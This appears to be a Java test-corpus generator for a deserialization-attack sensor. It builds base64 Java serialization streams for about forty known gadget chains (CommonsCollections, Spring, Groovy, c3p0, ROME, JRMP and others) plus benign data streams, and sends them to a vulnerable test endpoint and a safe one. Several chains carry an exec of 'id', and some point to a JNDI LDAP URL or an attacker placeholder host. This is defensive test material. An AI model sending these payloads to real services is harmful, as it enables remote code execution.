package dev.pincer.e2e.corpus;

import static dev.pincer.e2e.corpus.Gadgets.CC;
import static dev.pincer.e2e.corpus.Gadgets.CC4;
import static dev.pincer.e2e.corpus.Gadgets.NULL;
import static dev.pincer.e2e.corpus.Gadgets.arrayList;
import static dev.pincer.e2e.corpus.Gadgets.badAttributeValue;
import static dev.pincer.e2e.corpus.Gadgets.chain;
import static dev.pincer.e2e.corpus.Gadgets.gadget;
import static dev.pincer.e2e.corpus.Gadgets.hashMap;
import static dev.pincer.e2e.corpus.Gadgets.hashSet;
import static dev.pincer.e2e.corpus.Gadgets.integer;
import static dev.pincer.e2e.corpus.Gadgets.invoker;
import static dev.pincer.e2e.corpus.Gadgets.lazyMap;
import static dev.pincer.e2e.corpus.Gadgets.objects;
import static dev.pincer.e2e.corpus.Gadgets.priorityQueue;
import static dev.pincer.e2e.corpus.Gadgets.proxy;
import static dev.pincer.e2e.corpus.Gadgets.str;
import static dev.pincer.e2e.corpus.Gadgets.templatesImpl;

import dev.pincer.e2e.corpus.Serial.Node;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Base64;
import java.util.List;

/**
 * Generates {@code corpus/deserialization.txt} (the gadget streams of {@link #attacks()}) and
 * {@code corpus/benign-deserialization.txt} (the plain-data streams of {@link #benign()}), base64,
 * one per line. {@code DeserCorpusTest} fails when the files and this generator disagree; to
 * rewrite them, from {@code e2e/tests} after a build:
 *
 * <pre>java -cp target/test-classes dev.pincer.e2e.corpus.DeserCorpus src/test/resources/corpus</pre>
 */
public final class DeserCorpus {
    private DeserCorpus() {
    }

    /** One stream and what it is. */
    public record Stream(String what, Node top) {
        public String base64() {
            return Base64.getEncoder().encodeToString(Serial.stream(top));
        }
    }

    public static List<Stream> attacks() {
        String tiedMapEntry = CC + "keyvalue.TiedMapEntry";
        String spring = "org.springframework.";
        return List.of(
                new Stream("commons-collections InvokerTransformer (the CC1-7 primitive)", invoker(CC, "exec", str("id"))),
                new Stream("commons-collections ChainedTransformer: ConstantTransformer(Runtime) then getMethod/invoke/exec", chain(CC)),
                new Stream("commons-collections ConstantTransformer alone", gadget(CC + "functors.ConstantTransformer", "iConstant", str("x"))),
                new Stream("commons-collections InstantiateTransformer (CC3)", gadget(CC + "functors.InstantiateTransformer",
                        "iParamTypes", objects("[Ljava.lang.Class;"), "iArgs", objects("[Ljava.lang.Object;"))),
                new Stream("commons-collections LazyMap decorated with a ChainedTransformer (CC1, CC5, CC6 core)", lazyMap(CC)),
                new Stream("CC6: HashSet holding a TiedMapEntry over a LazyMap",
                        hashSet(gadget(tiedMapEntry, "key", str("foo"), "map", lazyMap(CC)))),
                new Stream("CC5: BadAttributeValueExpException whose val is a TiedMapEntry",
                        badAttributeValue(gadget(tiedMapEntry, "key", str("foo"), "map", lazyMap(CC)))),
                new Stream("CC1 style: a HashMap whose value is a LazyMap", hashMap(str("value"), lazyMap(CC))),
                new Stream("commons-collections TransformedMap with a ChainedTransformer", gadget(CC + "map.TransformedMap",
                        "keyTransformer", NULL, "valueTransformer", chain(CC), "map", hashMap(str("value"), str("x")))),
                new Stream("CC2: PriorityQueue ordered by collections4 TransformingComparator(InvokerTransformer)",
                        priorityQueue(gadget(CC4 + "comparators.TransformingComparator", "decorated", NULL,
                                "transformer", invoker(CC4, "newTransformer")))),
                new Stream("CC4: PriorityQueue ordered by TransformingComparator(ChainedTransformer(TrAXFilter, InstantiateTransformer))",
                        priorityQueue(gadget(CC4 + "comparators.TransformingComparator", "decorated", NULL,
                                "transformer", chain(CC4)))),
                new Stream("collections4 InvokerTransformer alone", invoker(CC4, "newTransformer")),
                new Stream("CB1: PriorityQueue ordered by commons-beanutils BeanComparator(outputProperties)",
                        priorityQueue(gadget("org.apache.commons.beanutils.BeanComparator",
                                "property", str("outputProperties"), "comparator", NULL))),
                new Stream("TemplatesImpl (JDK XSLTC): the bytecode carrier of CC2/CC3/CB1/Jdk7u21", templatesImpl()),
                new Stream("TemplatesImpl nested in a HashMap", hashMap(str("t"), templatesImpl())),
                new Stream("TemplatesImpl inside an ArrayList", arrayList(str("a"), templatesImpl())),
                new Stream("BadAttributeValueExpException alone (the CC5 toString trigger)", badAttributeValue(str("trigger"))),
                new Stream("Groovy1: ConvertedClosure over a MethodClosure(execute)",
                        gadget("org.codehaus.groovy.runtime.ConvertedClosure", "methodName", str("entrySet"),
                                "delegate", gadget("org.codehaus.groovy.runtime.MethodClosure", "method", str("execute"),
                                        "delegate", str("id")))),
                new Stream("Groovy MethodClosure alone", gadget("org.codehaus.groovy.runtime.MethodClosure",
                        "method", str("execute"), "delegate", str("id"))),
                new Stream("Spring1: SerializableTypeWrapper$MethodInvokeTypeProvider with an ObjectFactory handler",
                        gadget(spring + "core.SerializableTypeWrapper$MethodInvokeTypeProvider", "index", 0,
                                "methodName", str("newTransformer"), "provider",
                                proxy(gadget(spring + "beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
                                        "objectFactory", NULL), spring + "core.SerializableTypeWrapper$TypeProvider"))),
                new Stream("Spring ObjectFactory proxy (Spring1's inner object)", proxy(
                        gadget(spring + "beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
                                "objectFactory", NULL), spring + "beans.factory.ObjectFactory")),
                new Stream("Spring2: JdkDynamicAopProxy over AdvisedSupport", gadget(spring + "aop.framework.JdkDynamicAopProxy",
                        "advised", gadget(spring + "aop.framework.AdvisedSupport", "targetSource", NULL))),
                new Stream("c3p0: PoolBackedDataSourceBase with a ReferenceIndirector$ReferenceSerialized (JNDI reference)",
                        gadget("com.mchange.v2.c3p0.impl.PoolBackedDataSourceBase", "dataSourceName", str("x"),
                                "connectionPoolDataSource", gadget("com.mchange.v2.naming.ReferenceIndirector$ReferenceSerialized",
                                        "contextName", NULL, "env", NULL, "name", NULL, "reference", NULL))),
                new Stream("c3p0 JndiRefForwardingDataSource (C3P0 JNDI variant)",
                        gadget("com.mchange.v2.c3p0.JndiRefForwardingDataSource", "jndiName", str("ldap://127.0.0.1:1389/x"))),
                new Stream("ROME: HashMap keyed by a syndication ObjectBean", hashMap(
                        gadget("com.sun.syndication.feed.impl.ObjectBean", "_equalsBean", NULL, "_toStringBean", NULL,
                                "_cloneableBean", NULL), str("v"))),
                new Stream("ROME (rometools) ToStringBean", gadget("com.rometools.rome.feed.impl.ToStringBean",
                        "beanClass", NULL, "obj", templatesImpl())),
                // Not Hibernate1: its stream opens with TypedValue and ComponentType, which Hibernate itself
                // serializes in query-cache keys, so they are not deny-listed. In an app with Hibernate the
                // chain is stopped at its tuplizer or getter class; in this app (no Hibernate) resolving
                // TypedValue fails first, so the stream would prove nothing either way.
                new Stream("JBossInterceptors1: InterceptorMethodHandler", gadget("org.jboss.interceptor.proxy.InterceptorMethodHandler",
                        "targetInstance", NULL)),
                new Stream("BeanShell1: bsh.XThis in a PriorityQueue comparator proxy", priorityQueue(
                        proxy(gadget("bsh.XThis", "namespace", NULL), "java.util.Comparator"))),
                new Stream("Jython1: org.python.core.PyMethod", gadget("org.python.core.PyMethod", "__func__", NULL)),
                new Stream("MozillaRhino1: BadAttributeValueExpException with a NativeError",
                        badAttributeValue(gadget("org.mozilla.javascript.NativeError", "prototypeObject", NULL))),
                new Stream("Myfaces1: ValueExpressionMethodExpression", gadget(
                        "org.apache.myfaces.view.facelets.el.ValueExpressionMethodExpression", "valueExpression", NULL)),
                new Stream("FileUpload1: commons-fileupload DiskFileItem", gadget("org.apache.commons.fileupload.disk.DiskFileItem",
                        "fieldName", str("f"), "sizeThreshold", 0, "repository", NULL)),
                new Stream("Wicket1: wicket DiskFileItem", gadget("org.apache.wicket.util.upload.DiskFileItem",
                        "fieldName", str("f"))),
                new Stream("JSON1: net.sf.json.JSONObject in a HashMap", hashMap(str("j"),
                        gadget("net.sf.json.JSONObject", "nullObject", false))),
                new Stream("Vaadin1: NestedMethodProperty in BadAttributeValueExpException",
                        badAttributeValue(gadget("com.vaadin.data.util.NestedMethodProperty", "propertyName", str("outputProperties")))),
                new Stream("Clojure: clojure.core$comp in a HashMap", hashMap(gadget("clojure.core$comp", "f", NULL), str("v"))),
                new Stream("Click1: Column$ColumnComparator in a PriorityQueue",
                        priorityQueue(gadget("org.apache.click.control.Column$ColumnComparator", "ascending", 1))),
                new Stream("AspectJWeaver: SimpleCache$StoreableCachingMap", gadget(
                        "org.aspectj.weaver.tools.cache.SimpleCache$StoreableCachingMap", "folder", str("/tmp"))),
                new Stream("an array of InvokerTransformer", objects("[L" + CC + "functors.InvokerTransformer;",
                        invoker(CC, "exec", str("id")))),
                new Stream("an Object[] holding a ChainedTransformer", objects("[Ljava.lang.Object;", str("a"), chain(CC))),
                new Stream("an ArrayList holding an InvokerTransformer", arrayList(integer(1), invoker(CC, "exec", str("id")))),
                new Stream("a HashMap nested in a HashMap, the inner value an InvokerTransformer",
                        hashMap(str("outer"), hashMap(str("inner"), invoker(CC, "exec", str("id"))))));
    }

    /** Streams of plain data: what a legitimate client of the endpoint would send. */
    public static List<Stream> benign() {
        return List.of(
                new Stream("a String", str("hello")),
                new Stream("an Integer", integer(42)),
                new Stream("an ArrayList of Strings", arrayList(str("apples"), str("pears"))),
                new Stream("a HashMap of Strings", hashMap(str("name"), str("O'Brien"), str("size"), str("M"))),
                new Stream("a String[]", objects("[Ljava.lang.String;", str("select"), str("drop"))),
                // Written by the JDK: common value classes, read through the resolveClass hook and the
                // sensor's deserialization filter alike (enum descriptors, readResolve results, arrays).
                new Stream("a java.util.Date (JDK-written)", Jrmp.jdk(new java.util.Date(0))),
                new Stream("an enum constant, TimeUnit.SECONDS (java.lang.Enum descriptor)",
                        Jrmp.jdk(java.util.concurrent.TimeUnit.SECONDS)),
                new Stream("a java.time.Instant (its serial proxy, replaced by readResolve)",
                        Jrmp.jdk(java.time.Instant.ofEpochSecond(1_700_000_000L))),
                new Stream("a UUID", Jrmp.jdk(new java.util.UUID(1L, 2L))),
                new Stream("a Long[] (boxed numbers in an array)", Jrmp.jdk(new Long[] {1L, 2L, 3L})),
                new Stream("a BigDecimal", Jrmp.jdk(new java.math.BigDecimal("12.50"))),
                new Stream("a TreeMap of String to Integer", Jrmp.jdk(new java.util.TreeMap<>(java.util.Map.of("a", 1, "b", 2)))),
                new Stream("an unmodifiable list (a JDK wrapper class)",
                        Jrmp.jdk(java.util.Collections.unmodifiableList(new java.util.ArrayList<>(List.of("x", "y"))))),
                new Stream("an int[][] and a byte[] in an Object[]",
                        Jrmp.jdk(new Object[] {new int[][] {{1, 2}, {3}}, new byte[] {1, 2, 3}})));
    }

    static String render() {
        StringBuilder sb = new StringBuilder();
        sb.append("""
                # Deserialization attacks: Java serialization streams (base64) naming known gadget classes.
                # GENERATED by dev.pincer.e2e.corpus.DeserCorpus; DeserCorpusTest fails if this file and the
                # generator disagree. Format: see dev.pincer.e2e.corpus.Corpus.
                # The library classes are absent from the demo app, so a plain ObjectInputStream answers
                # "ClassNotFoundException: <gadget>" (it tried to load it); the JDK ones (TemplatesImpl,
                # BadAttributeValueExpException) it instantiates. The safe endpoint rejects them all.
                @attack_class deserialization
                @sink deserialize
                @event_input no

                """);
        List<Stream> attacks = attacks();
        group(sb, "gadgets-body: each stream as the raw request body", "BODY /vuln/deser -", attacks);
        group(sb, "gadgets-form: a few streams as the form field data=", "FORM /vuln/deser data", attacks.subList(0, 4));
        group(sb, "gadgets-json: a few streams as the JSON field data", "JSON /vuln/deser data", attacks.subList(13, 16));
        List<Stream> jrmp = jrmp();
        sb.append("""
                # The JDK's own JRMP chain: JDK classes only, and the app connects to the endpoint the stream
                # names while reading it. Each line is {ATTACKER} + base64 of a stream naming 127.0.0.1:1; the
                # suites rewrite the port to a listener of the case's own, and the proof is that it was connected to.
                """);
        group(sb, "jrmp-body: JDK-only JRMP streams as the raw request body", "BODY /vuln/deser -", jrmp,
                "connect", Corpus.ATTACKER);
        group(sb, "jrmp-form: the JRMPClient stream as the form field data=", "FORM /vuln/deser data",
                jrmp.subList(0, 2), "connect", Corpus.ATTACKER);
        return sb.toString();
    }

    static String renderBenign() {
        StringBuilder sb = new StringBuilder("""
                # Benign deserialization: streams of plain data (String, Integer, collections of Strings, and
                # JDK-written dates, enums, java.time values, boxed arrays, BigDecimal, wrappers).
                # GENERATED by dev.pincer.e2e.corpus.DeserCorpus; DeserCorpusTest fails if this file and the
                # generator disagree. Format: see dev.pincer.e2e.corpus.Corpus.

                @group plain-data: JDK data classes only, as the raw body of the plain ObjectInputStream endpoint
                @send BODY /vuln/deser -
                """);
        for (Stream s : benign()) {
            sb.append("# ").append(s.what()).append('\n').append(s.base64()).append('\n');
        }
        return sb.toString();
    }

    private static void group(StringBuilder sb, String what, String send, List<Stream> streams) {
        group(sb, what, send, streams, "body~^(deserialized: |deserialization failed: ClassNotFoundException)", "");
    }

    private static void group(StringBuilder sb, String what, String send, List<Stream> streams, String proof,
            String prefix) {
        sb.append("@group ").append(what).append('\n')
                .append("@send ").append(send).append('\n')
                .append("@safe /safe/deser\n")
                .append("@proof ").append(proof).append('\n');
        for (Stream s : streams) {
            sb.append("# ").append(s.what()).append('\n').append(prefix).append(s.base64()).append('\n');
        }
        sb.append('\n');
    }

    /** The JDK's own JRMP chain ({@link Jrmp}): the app connects to the endpoint the stream names. */
    public static List<Stream> jrmp() {
        return Jrmp.streams();
    }

    /** Writes both files into the corpus directory given as the only argument. */
    public static void main(String[] args) throws IOException {
        Path dir = Path.of(args[0]);
        Files.writeString(dir.resolve("deserialization.txt"), render(), StandardCharsets.UTF_8);
        Files.writeString(dir.resolve("benign-deserialization.txt"), renderBenign(), StandardCharsets.UTF_8);
    }
}
